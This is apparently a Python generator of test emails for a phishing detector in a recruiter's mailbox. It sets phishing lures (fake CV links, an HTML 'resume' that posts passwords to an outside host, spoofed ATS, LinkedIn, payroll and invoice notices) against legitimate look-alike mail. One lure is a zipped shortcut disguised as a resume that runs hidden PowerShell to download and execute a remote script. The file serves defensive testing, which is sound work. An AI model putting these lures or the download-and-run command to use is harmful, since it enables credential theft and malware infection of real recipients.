# Targeted cases for the recruiter's mailbox (gen_hiring.py), judged
# against its learned history: phish-* cases shaped for a recruiter, each
# the lure the legitimate mail of its window resembles, which should be
# flagged; h01-h19 legitimate mail of the same shapes, first seen after the
# test window, which should pass or at most warn.
import struct
from gen_common import alt, case_writer, mixed, pdf, docx, DOCX, zipped

w = case_writer("nadia.brooks@alderway.example", "hiring")

# a "CV" too large to attach, as a link to a sign-in page on free hosting
w("phish-cv-link-freehost", "Ryan Atwood <ryan.atwood.cv@gmail.com>", "Application - Senior Backend Engineer",
  '<p>Hi Nadia,</p><p>I am applying for the Senior Backend Engineer role. My CV and portfolio were too large to attach, '
  'so I shared them securely: <a href="https://cv-document-share.web.app/view/resume?id=RA2026">View my CV</a></p>'
  '<p>You may need to sign in with your work email to open the shared document.</p><p>Kind regards,<br>Ryan Atwood</p>')
# a "resume" attached as an HTML file that asks for the password and posts it away
page = ('<html><head><title>Resume - Emily Carter</title></head><body><h3>Resume_Emily_Carter.pdf</h3>'
        '<p>This document is protected. Sign in with your email account to view it.</p>'
        '<form action="https://resume-viewer-secure.com/auth/submit.php" method="post"><input name="email" value="nadia.brooks@alderway.example">'
        '<input type="password" name="password"><button>View document</button></form>'
        '<script>document.forms[0].email.focus()</script></body></html>')
body, ct = mixed([("text/plain; charset=utf-8", "Hello,\n\nPlease find my resume attached for the Product Designer position.\n\nEmily Carter\n"),
                  ("text/html", "Resume_Emily_Carter.html", page.encode())])
w("phish-resume-html-attachment", "Emily Carter <emily.carter.designs@outlook.com>", "Product Designer application - Emily Carter", body, ct)
# a "resume" in a zip holding a Windows shortcut that runs PowerShell
target = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -c \"iwr https://cdn-cvfiles.com/r.ps1 | iex\""
lnk = (b"L\x00\x00\x00" + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", 0x000000A4) + b"\x00" * 56
       + struct.pack("<H", len(target)) + target.encode("utf-16-le"))
body, ct = mixed([("text/plain; charset=utf-8", "Hi Nadia,\n\nAttached is my resume and cover letter (zipped, as your form would not take two files).\n\nDaniel Kowal\n"),
                  ("application/zip", "Daniel_Kowal_Resume.zip", zipped([("Daniel_Kowal_Resume.pdf.lnk", lnk)]))])
w("phish-resume-zip-shortcut", "Daniel Kowal <daniel.kowal.pm@gmail.com>", "Resume - Customer Success Manager", body, ct)
# a fake ATS notice under Greenhouse's name from a new domain
w("phish-ats-candidate-withdrew", "Greenhouse <no-reply@greenhouse-notify.com>", "Candidate withdrew: action required in portal",
  '<p>A candidate for <b>Engineering Manager, Platform</b> has withdrawn and left a message for the recruiter.</p>'
  '<p>Review the withdrawal and confirm the pipeline change in the recruiting portal within 24 hours:</p>'
  '<p><a href="https://app.greenhouse-portal.com/people/48211000/login?application_id=522310000">Review in portal</a></p>'
  '<p><a href="https://app.greenhouse-portal.com/users/notification_settings">Notification settings</a></p>')
# a LinkedIn InMail lookalike leading to a credential page
w("phish-linkedin-inmail-lookalike", "Sarah Whitman via LinkedIn <inmail-hit-reply@linkedin-talentmail.com>", "Sarah Whitman sent you an InMail",
  '<p><b>Sarah Whitman</b> sent you an InMail: "Senior candidates for your Engineering Manager role"</p>'
  '<p>To view this message, please confirm your Recruiter seat.</p>'
  '<p><a href="https://linkedin.talent-recruiter-inbox.com/login?session=expired">View in Recruiter</a></p>'
  '<p><a href="https://www.linkedin.com/help/recruiter">Help</a></p>')
# a payroll "update your direct deposit" lure under the company's name
w("phish-payroll-direct-deposit", "Alderway Payroll <payroll@alderway-people.com>", "Action required: confirm your direct deposit before Friday's payroll",
  '<p>Dear Nadia,</p><p>Due to our migration to a new payroll provider, all employees must confirm their direct deposit details before Friday. '
  'Employees who do not confirm may have their pay delayed.</p>'
  '<p><a href="https://alderway-people.com/rippling/payroll/direct-deposit?emp=nadia.brooks">Confirm direct deposit</a></p><p>Alderway Payroll Team</p>')
# a fake job-board invoice
w("phish-jobboard-invoice", "Indeed Billing <billing@indeed-employer-invoices.com>", "Invoice INV-88213 overdue: your job posts will be paused",
  '<p>Hello,</p><p>Your Indeed invoice INV-88213 for $3,460.00 is 14 days overdue. Sponsored job posts for Alderway will be paused '
  'unless payment is received within 48 hours.</p><p><a href="https://indeed-employer-invoices.com/billing/pay?inv=88213">Pay invoice now</a></p>'
  '<p>Indeed, Inc., 6433 Champion Grandview Way, Austin, TX 78750</p>')

# legitimate mail of the same shapes
# a designer's portfolio on Adobe Portfolio (myportfolio.com), CV attached
body, ct = mixed([("text/html; charset=utf-8", '<p>Hi Nadia,</p><p>I\'d love to be considered for the Product Designer role. My portfolio: '
                   '<a href="https://lenaschmidt.myportfolio.com/work">lenaschmidt.myportfolio.com</a>. CV attached.</p><p>Lena Schmidt</p>'),
                  ("application/pdf", "Lena_Schmidt_CV.pdf", pdf(["Lena Schmidt", "Product Designer", "Portfolio: lenaschmidt.myportfolio.com"]))])
w("h01-candidate-adobe-portfolio", "Lena Schmidt <lena.schmidt.design@gmail.com>", "Product Designer - Lena Schmidt", body, ct)
# a candidate's Behance and Dribbble
w("h02-candidate-behance-dribbble", "Omar Qureshi <omar.qureshi@outlook.com>", "Portfolio for the Product Designer role",
  '<p>Hi Nadia,</p><p>Following our call, here is my work: <a href="https://www.behance.net/omarqureshi">Behance</a> and '
  '<a href="https://dribbble.com/omarqureshi">Dribbble</a>.</p><p>Thanks,<br>Omar</p>')
# a CV as a Google Docs link from a candidate
w("h03-candidate-cv-google-docs", "Hannah Fox <hannahfox88@yahoo.com>", "Data Analyst application",
  '<p>Dear Nadia,</p><p>Please find my CV here: <a href="https://docs.google.com/document/d/1Xk9pQ2vR7sT4uW6yZ8aB3cD5eF7gH9iJ/edit?usp=sharing">Hannah Fox - CV</a>.</p><p>Best,<br>Hannah</p>')
# a CV on a Notion site
w("h04-candidate-notion-cv", "Tobias Lund <tobias.lund@proton.me>", "Engineering Manager, Platform",
  '<p>Hi Nadia,</p><p>My CV and a write-up of the platform team I built: <a href="https://tobiaslund.notion.site/CV-Tobias-Lund-4f2a9c1e8b7d4e6fa1c3">Notion</a></p><p>Tobias</p>')
# Greenhouse's own password reset (Nadia asked for it)
w("h05-greenhouse-password-reset", "Greenhouse <no-reply@greenhouse.io>", "Reset your Greenhouse password",
  '<p>Hello Nadia,</p><p>Someone requested a link to change your password. You can do this through the link below.</p>'
  '<p><a href="https://app.greenhouse.io/users/password/edit?reset_password_token=Zk3xQ9vT2pLm">Change my password</a></p>'
  '<p>If you didn\'t request this, please ignore this email.</p>', extra="")
# LinkedIn Recruiter's failed payment
w("h06-linkedin-recruiter-payment", "LinkedIn <billing-noreply@linkedin.com>", "Your Recruiter Lite payment didn't go through",
  '<p>Hi Nadia, we couldn\'t process your payment for Recruiter Lite. Update your payment method to keep access to InMail and saved searches.</p>'
  '<p><a href="https://www.linkedin.com/comm/premium/manage/payment?lipi=Rq7X">Update payment method</a></p>')
# Indeed's own overdue notice from its usual sender
w("h07-indeed-invoice-overdue-real", "Indeed <invoices@indeed.com>", "Payment failed for your Indeed invoice",
  '<p>We could not charge the card on file for your Indeed invoice for October 2026 ($1,240.00). Sponsored jobs will pause unless the payment method is updated.</p>'
  '<p><a href="https://employers.indeed.com/billing/payment-methods">Update payment method</a></p><p>Indeed, Inc., 6433 Champion Grandview Way, Austin, TX 78750</p>')
# Rippling's notice of a direct-deposit change Nadia made
w("h08-rippling-direct-deposit-changed", "Rippling <no-reply@rippling.com>", "Your direct deposit information was updated",
  '<p>Hi Nadia,</p><p>Your direct deposit account was updated on Nov 25. If you did not make this change, contact your HR administrator immediately.</p>'
  '<p><a href="https://app.rippling.com/profile/payroll">Review payroll settings</a></p><p>Rippling</p>')
# a candidate's Word CV linking a personal site, from Proton Mail
body, ct = mixed([("text/plain; charset=utf-8", "Hi Nadia,\n\nMy resume for the Senior Backend Engineer role is attached.\n\nRegards,\nAnders Holm\n"),
                  (DOCX, "Anders_Holm_Resume.docx", docx(["Anders Holm", "Senior Backend Engineer", ["Projects: ", ("andersholm.example/projects", "https://andersholm.example/projects")]]))])
w("h09-candidate-word-cv-site", "Anders Holm <anders.holm@proton.me>", "Resume - Senior Backend Engineer", body, ct)
# Checkr: a candidate disputed a report
w("h10-checkr-dispute", "Checkr <no-reply@checkr.com>", "Action required: candidate dispute for Sofia Rossi",
  '<p>Sofia Rossi has disputed an item on her background check report. Sign in to the dashboard to review the dispute; '
  'adverse action is paused until it is resolved.</p><p><a href="https://dashboard.checkr.com/candidates/9f8e7d6c5b4a/disputes">Review dispute</a></p><p>Checkr, Inc.</p>')
# a new agency's shortlist on its own portal
w("h11-new-agency-shortlist", "Marco Bellucci <marco@ridgewaytalent.example>", "Shortlist: Data Analyst (3 candidates)",
  '<p>Hi Nadia,</p><p>As discussed with Owen, here is our shortlist for the Data Analyst role: '
  '<a href="https://clients.ridgewaytalent.example/shortlists/alderway-data-analyst">view shortlist</a>. Our standard terms are attached to the portal.</p><p>Marco Bellucci<br>Ridgeway Talent</p>')
# a newly acquired team's Workable account notice
w("h12-workable-new-applicant", "Quayside Labs via Workable <noreply@workablemail.com>", "New candidate for Mobile Engineer: Ines Carvalho",
  '<p>Ines Carvalho applied for <b>Mobile Engineer</b> at Quayside Labs.</p><p><a href="https://quaysidelabs.workable.com/backend/jobs/4412/candidates/188213">View candidate</a></p>',
  extra="Reply-To: Pedro Alves <pedro.alves@quaysidelabs.example>\r\n")
# employment verification request from another company's HR about a former employee
w("h13-employment-verification", "Jen Park <jen.park@harbourline.example>", "Employment verification: Marcus Reid",
  '<p>Hello,</p><p>Marcus Reid has accepted an offer with Harbourline and authorised us to verify his employment at Alderway (2022-2025). '
  'Could you confirm his dates and title? The signed authorisation is here: <a href="https://www.dropbox.com/scl/fi/x8k2m1/Reid_authorization.pdf?rlkey=a1b2c3">Reid_authorization.pdf</a></p>'
  '<p>Thank you,<br>Jen Park, HR Generalist, Harbourline</p>')
# a candidate books a screen through Nadia's Calendly
w("h14-calendly-candidate-booking", "Calendly <notifications@calendly.com>", "New Event: Ana Souza - 30 Minute Recruiter Screen",
  '<p>Hi Nadia,</p><p>A new event has been scheduled.</p><p><b>Event Type:</b> 30 Minute Recruiter Screen<br><b>Invitee:</b> Ana Souza<br>'
  '<b>Invitee Email:</b> ana.souza.dev@gmail.com</p><p><a href="https://calendly.com/events/ab12cd34ef56/google_meet">View event in Calendly</a></p>',
  extra="Reply-To: Ana Souza <ana.souza.dev@gmail.com>\r\n")
# the candidate's signed offer returned as a PDF
body, ct = mixed([("text/plain; charset=utf-8", "Hi Nadia,\n\nSigned offer attached. Very excited to join!\n\nSofia\n"),
                  ("application/pdf", "Alderway_Offer_Sofia_Rossi_signed.pdf", pdf(["Alderway Offer Letter", "Sofia Rossi", "Signed 25 Nov 2026"]))])
w("h15-candidate-signed-offer", "Sofia Rossi <sofia.rossi.ops@gmail.com>", "Signed offer", body, ct)
# a student's message through Handshake
w("h16-handshake-student-message", "Jamal Price via Handshake <messages@joinhandshake.com>", "New message from Jamal Price",
  '<p><b>Jamal Price</b> (Westbrook State University, Class of 2027) sent you a message: "Is the Data Analyst internship open to juniors?"</p>'
  '<p><a href="https://app.joinhandshake.com/messages/8812345">Reply on Handshake</a></p>')
# a university's Google Form for the career fair, from its staff
w("h17-university-google-form", "Dana Whitcomb <dwhitcomb@westbrookstate.example>", "Winter fair: employer form",
  '<p>Dear Ms Brooks,</p><p>Please complete the employer form for the winter fair by December 5: '
  '<a href="https://docs.google.com/forms/d/e/1FAIpQLSd8k2X9vQ/viewform">employer form</a>.</p><p>Dana Whitcomb<br>Career Center</p>')
# a GitHub profile and a live demo on GitHub Pages from a new candidate
w("h18-candidate-github-pages", "Wei Zhang <wei.zhang.code@gmail.com>", "Backend Engineer application",
  '<p>Hi Nadia,</p><p>Applying for the Senior Backend Engineer role. Code: <a href="https://github.com/weizhang-dev">github.com/weizhang-dev</a>, '
  'a demo of my routing project: <a href="https://weizhang-dev.github.io/route-opt/">weizhang-dev.github.io/route-opt</a>.</p><p>Wei</p>')
# a freelance sourcer at free mail shares her invoice through Google Drive's notice
w("h19-freelancer-drive-invoice", '"Maya Lindqvist (via Google Drive)" <drive-shares-dm-noreply@google.com>', 'File shared with you: "Invoice_2026-11_Lindqvist_Sourcing.pdf"',
  '<p>Maya Lindqvist shared a file with you.</p><p>Hi Nadia, my invoice for the November sourcing sprint (12 profiles delivered), payment terms 14 days as agreed.</p>'
  '<p><a href="https://drive.google.com/file/d/1Qm7xR2kV9pLs4TnWb8YcZ3eHd6Fj0aUo/view?usp=sharing_eil_m&amp;ts=6745a1b2">Invoice_2026-11_Lindqvist_Sourcing.pdf</a></p>'
  '<p>Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p>', extra="Reply-To: Maya Lindqvist <maya.lindqvist.sourcing@gmail.com>\r\n")
